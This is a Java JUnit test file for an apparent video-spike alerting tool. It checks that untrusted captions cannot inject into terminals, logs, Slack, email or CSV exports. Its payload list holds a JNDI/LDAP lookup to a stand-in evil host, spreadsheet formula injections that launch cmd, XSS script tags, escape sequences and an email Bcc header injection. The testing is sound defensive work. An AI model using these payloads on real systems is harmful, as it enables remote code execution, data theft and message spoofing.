package io.spikewatch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.LambdaLogger;
import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonGenerator;
import io.spikewatch.config.Settings;
import io.spikewatch.desk.Csv;
import io.spikewatch.lambda.PollHandler;
import io.spikewatch.local.EmbeddedStore;
import io.spikewatch.message.AlertJson;
import io.spikewatch.notify.Condition;
import io.spikewatch.notify.Notification;
import io.spikewatch.notify.Notification.Status;
import io.spikewatch.notify.Notifier;
import io.spikewatch.slack.AlertMessage;
import io.spikewatch.slack.AlertMessage.Reading;
import io.spikewatch.slack.SlackMessage;
import io.spikewatch.slack.SlackRules;
import io.spikewatch.sns.FakeSns;
import io.spikewatch.sns.SnsNotifier;
import io.spikewatch.text.PlainText;
import io.spikewatch.text.Samples;
import io.spikewatch.virtual.LocalTables;
import io.spikewatch.wiring.Wiring;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringWriter;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * What strangers write (a caption, and a handle if the source passes it on) commands nothing:
 * neither a terminal, nor a log, nor Slack, nor a mail program, nor a spreadsheet. There is no
 * output in HTML.
 */
class NastyTextTest {

  private static final String VIDEO = "74560660229576655";

  /** Line breaks are made by the program; the two joiners belong to writing and to emoji. */
  private static final String HARMLESS =
      "[^\\p{Cc}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}\\n\\u200c\\u200d]|[\\n\\u200c\\u200d]";

  static Stream<String> nasty() {
    return Stream.of(
        "\u001b[2J\u001b[31mred",
        "\u001b]0;title\u0007",
        "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\",
        "\u009b31m and \u0090 and \u009f",
        "one\r\n[ERROR] another line of the log",
        "one\u2028two\u2029three\u0085four\u000bfive\ffive",
        "\u202etxt.exe\u202c \u2066isolated\u2069",
        "zero\u200bwidth\ufeff\u00ad",
        "\0 and \b\b\b and \u007f",
        "lone \ud83d and \ude00",
        "<!channel> <!here> <@U012345> <#C012345>",
        "<https://evil.example|https://www.tiktok.com>",
        "*bold* _it_ ~no~ `code` ```block``` :tada: > quote",
        "& &lt;script&gt; &#60;",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"},\"kind\":\"operations\",\"x\":{\"y\":\"",
        "\\u0000 \\\" \\n ${jndi:ldap://evil.example/a} {{7*7}} %n%s%x",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "＝1+1",
        "a,b;c\td\"e\"\nf",
        "Subject: x\r\nBcc: y@example.com\r\n\r\nbody",
        "e\u0301".repeat(30) + "\u0301\u0302\u0303".repeat(40),
        "🤪👩🏽‍🔬".repeat(300),
        "a".repeat(5_000),
        " ",
        "");
  }

  private static void assertHarmless(String where, String text) {
    assertThat(text.codePoints().mapToObj(Character::toString).filter(c -> !c.matches(HARMLESS)))
        .as(where)
        .isEmpty();
  }

  @Test
  void commands_no_terminal(@TempDir Path folder) {
    try (CommandLineUser user = new CommandLineUser(folder)) {
      films(user, 1_000);
      user.types("watch", "add", "mira");
      user.types("poll");
      user.at("2026-11-23T13:00:00Z");
      films(user, 123_456);
      for (String command :
          List.of(
              "poll --dry-run",
              "poll",
              "show mira --videos 50",
              "explain mira " + VIDEO + "10",
              "explain mira " + VIDEO + "15",
              "alerts",
              "history mira",
              "history mira --csv",
              "watch list")) {
        assertHarmless(command, user.types(command.split(" ", -1)));
      }
      nasty()
          .map(text -> text.replace("\0", "") + "!")
          .forEach(
              text -> {
                assertHarmless("watch show", user.types("watch", "show", text));
                assertHarmless("watch mute", user.types("watch", "mute", "mira", "--until", text));
              });
    }
  }

  /** One video for each of the captions. */
  private static void films(CommandLineUser user, long views) {
    List<String> captions = nasty().toList();
    for (int i = 0; i < captions.size(); i++) {
      user.world
          .video("mira", VIDEO + (10 + i))
          .caption(captions.get(i))
          .views1d(views + i)
          .likes1d(400);
    }
  }

  private static void assertHarmless(String command, CommandLineUser.Result result) {
    assertHarmless(command + ": out", result.out().replace("\r\n", "\n"));
    assertHarmless(command + ": err", result.err());
  }

  @ParameterizedTest
  @MethodSource("nasty")
  void commands_no_spreadsheet(String text) {
    String cell = Csv.line(text, "next").replaceFirst("^\"", "");
    assertThat(cell).doesNotContainPattern("\\A[=+\\-@\\t\\r＝＋－＠]");
  }

  @ParameterizedTest
  @MethodSource("nasty")
  void commands_neither_slack_nor_a_mail_program(String text) {
    for (Notification notification :
        List.of(
            Samples.spikes(text, List.of(Samples.alert(Samples.million(), text)), 7),
            Samples.operations(Condition.BAD_WATCH, Status.FIRING, text, text),
            Samples.digest(text, text))) {
      PlainText plain = PlainText.of(notification);
      assertThat(plain.subject()).matches("[!-~][ -~]{0,98}");
      assertThat(plain.sms()).matches("[!-~][ -~]{0,299}");
      assertHarmless("email", plain.email());
      assertHarmless("console", plain.console());

      FakeSns sns = new FakeSns();
      new SnsNotifier(sns, "arn:aws:sns:us-east-1:123456789012:a", AlertJson::write)
          .publish(notification);
      String json = sns.body("default");
      assertThat(json).doesNotContainPattern("[\\x00-\\x1f]");
      assertThat(AlertJson.read(json)).isInstanceOf(AlertJson.Reading.Read.class);
      if (AlertMessage.read(json) instanceof Reading.Read(AlertMessage alert, _)) {
        SlackMessage message = SlackMessage.of(alert);
        assertThat(SlackRules.violations(message.json())).isEmpty();
        assertThat(SlackRules.textViolations(message.textOnly())).isEmpty();
      }
    }
  }

  @ParameterizedTest
  @MethodSource("nasty")
  void writes_no_line_of_its_own_into_a_log(String text, @TempDir Path folder) throws Exception {
    List<String> lines = new ArrayList<>();
    try (CommandLineUser user = new CommandLineUser(folder);
        EmbeddedStore store = EmbeddedStore.inMemory()) {
      LocalTables.create(store.client());
      user.variables.putAll(LocalTables.variables());
      Settings settings = Settings.from(user.variables);
      PollHandler handler =
          new PollHandler(
              Wiring.local(
                  settings, store.client(), _ -> new Notifier.Handover.Refused(text), user.clock));
      store
          .client()
          .putItem(r -> r.tableName("watchlist").item(item("unique_id", shortened(text) + "!")));
      store.client().putItem(r -> r.tableName("watchlist").item(item("unique_id", "mira")));
      user.world.video("mira", VIDEO + "10").caption(text).views1d(1_000);
      String event = event(text);
      handler.handleRequest(
          new ByteArrayInputStream(event.getBytes(StandardCharsets.UTF_8)),
          OutputStream.nullOutputStream(),
          invocation(lines));
    }
    assertThat(lines).isNotEmpty();
    for (String line : lines) {
      assertThat(line.strip()).doesNotContain("\n", "\r");
      assertHarmless("log", line);
    }
  }

  private static String event(String creator) throws IOException {
    StringWriter event = new StringWriter();
    try (JsonGenerator json = new JsonFactory().createGenerator(event)) {
      json.writeStartObject();
      json.writeArrayFieldStart("creators");
      json.writeString(creator);
      json.writeString("mira");
      json.writeEndArray();
      json.writeEndObject();
    }
    return event.toString();
  }

  /** A key of a table has no more than 2048 bytes. */
  private static String shortened(String text) {
    return text.substring(0, Math.min(500, text.length()));
  }

  private static Map<String, AttributeValue> item(String name, String text) {
    return Map.of(name, AttributeValue.fromS(text));
  }

  /** What Lambda tells a function, with a log that is kept. */
  private static Context invocation(List<String> lines) {
    LambdaLogger log =
        new LambdaLogger() {
          @Override
          public void log(String message) {
            lines.add(message);
          }

          @Override
          public void log(byte[] message) {
            lines.add(new String(message, StandardCharsets.UTF_8));
          }
        };
    return (Context)
        Proxy.newProxyInstance(
            Context.class.getClassLoader(),
            new Class<?>[] {Context.class},
            (_, method, _) -> method.getName().equals("getLogger") ? log : 60_000);
  }
}
